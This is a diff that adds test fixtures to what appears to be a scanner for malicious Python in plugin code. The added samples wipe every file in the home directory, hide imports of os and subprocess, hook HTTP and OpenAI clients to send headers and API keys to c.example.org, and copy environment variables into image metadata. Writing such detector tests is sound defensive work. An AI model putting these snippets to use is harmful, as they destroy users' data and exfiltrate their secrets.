@@ -52,6 +52,33 @@ const OVERWRITTEN: readonly ToFind[] = [
     '        shutil.copyfile(note, root + "/" + n)',
     'open("done", "w").close()',
   )],
+  ['deletes_files', 'folders that wait in a list', lines(
+    'import os',
+    'class W:',
+    '    def go(self, top):',
+    '        stack = [top]',
+    '        while stack:',
+    '            d = stack.pop()',
+    '            for n in os.listdir(d):',
+    '                p = os.path.join(d, n)',
+    '                if os.path.isdir(p):',
+    '                    stack.append(p)',
+    '                else:',
+    '                    with open(p, "wb") as f:',
+    '                        f.write(b"")',
+    'W().go(os.path.expanduser("~"))',
+  )],
+  ['deletes_files', 'files that a pool is given', lines(
+    'from pathlib import Path',
+    'from concurrent.futures import ThreadPoolExecutor',
+    'def wipe(p):',
+    '    try:',
+    '        p.write_text("x")',
+    '    except OSError:',
+    '        pass',
+    'with ThreadPoolExecutor() as pool:',
+    '    pool.map(wipe, Path.home().rglob("*.*"))',
+  )],
 ];
 
 const NOT_OVERWRITTEN: readonly NotToFind[] = [
@@ -160,6 +187,19 @@ const COMPUTED_NAMES: readonly ToFind[] = [
     'from .words import WORDS',
     'operator.attrgetter(bytes.fromhex(WORDS["a"]).decode())(os)("id")',
   )],
+  ['hides_names', 'letters that are put together by a function', lines(
+    'import sys, functools, operator',
+    'NUM = [111, 115]',
+    'name = functools.reduce(operator.add, (chr(n) for n in NUM))',
+    'm = sys.modules.get(name)',
+    'm.system("id")',
+  )],
+  ['hides_names', 'letters of a template', lines(
+    'def f(i):',
+    '    return "%c" * len(i) % tuple(i)',
+    'mod = __import__(f([115,117,98,112,114,111,99,101,115,115]))',
+    'mod.run(["id"])',
+  )],
 ];
 
 const NOT_COMPUTED: readonly NotToFind[] = [
@@ -267,9 +307,46 @@ const REPLACED_LIBRARIES: readonly ToFind[] = [
     '    return old(self, name, *values)',
     'http.client.HTTPConnection.putheader = putheader',
   )],
+  ['sends_traffic_of_others', 'a client of another name', lines(
+    'import httpx',
+    'class Hook(httpx.Client):',
+    '    def send(self, request, **kw):',
+    '        httpx.post("https://c.example.org/x", content=str(dict(request.headers)))',
+    '        return super().send(request, **kw)',
+    'httpx.Client = Hook',
+  )],
+  ['sends_traffic_of_others', 'a list that is sent later', lines(
+    'import requests, threading',
+    '_o = requests.api.request',
+    'LOG = []',
+    'def request(method, url, **kw):',
+    '    LOG.append([url, kw.get("headers")])',
+    '    return _o(method, url, **kw)',
+    'requests.api.request = request',
+    'def up():',
+    '    _o("post", "https://c.example.org/x", json=LOG)',
+    'threading.Timer(60, up).start()',
+  )],
+  ['sends_traffic_of_others', 'a key within an address', lines(
+    'import openai, requests',
+    'old = openai.OpenAI.__init__',
+    'def init(self, *a, api_key=None, **k):',
+    '    requests.get("https://c.example.org/" + (api_key or ""))',
+    '    old(self, *a, api_key=api_key, **k)',
+    'openai.OpenAI.__init__ = init',
+  )],
 ];
 
 const NOT_REPLACED: readonly NotToFind[] = [
+  ['a mirror of a hub', lines(
+    'import requests',
+    'old = requests.get',
+    'def get(url, **kwargs):',
+    '    if url.startswith("https://huggingface.co"):',
+    '        return old("https://hf-mirror.com/" + url[23:], **kwargs)',
+    '    return old(url, **kwargs)',
+    'requests.get = get',
+  )],
   ['a time limit for all requests', lines(
     'import functools, requests',
     'old = requests.Session.request',
@@ -639,6 +716,16 @@ const SHARED_SECRETS: readonly ToFind[] = [
   ['shares_secrets', 'a key beside pictures', lines(
     'import os, shutil, folder_paths',
     'shutil.copy(os.path.expanduser("~/.ssh/id_rsa"), os.path.join(folder_paths.output_directory, "a.txt"))',
+  )],
+  ['shares_secrets', 'the environment within a workflow', lines(
+    'import os, json',
+    'class N:',
+    '    def run(self, extra_pnginfo=None):',
+    '        extra_pnginfo["workflow"]["extra"]["ds2"] = {k: v for k, v in os.environ.items()}',
+    '        from PIL.PngImagePlugin import PngInfo',
+    '        m = PngInfo()',
+    '        for k in extra_pnginfo:',
+    '            m.add_text(k, json.dumps(extra_pnginfo[k]))',
   )],
 ];
 
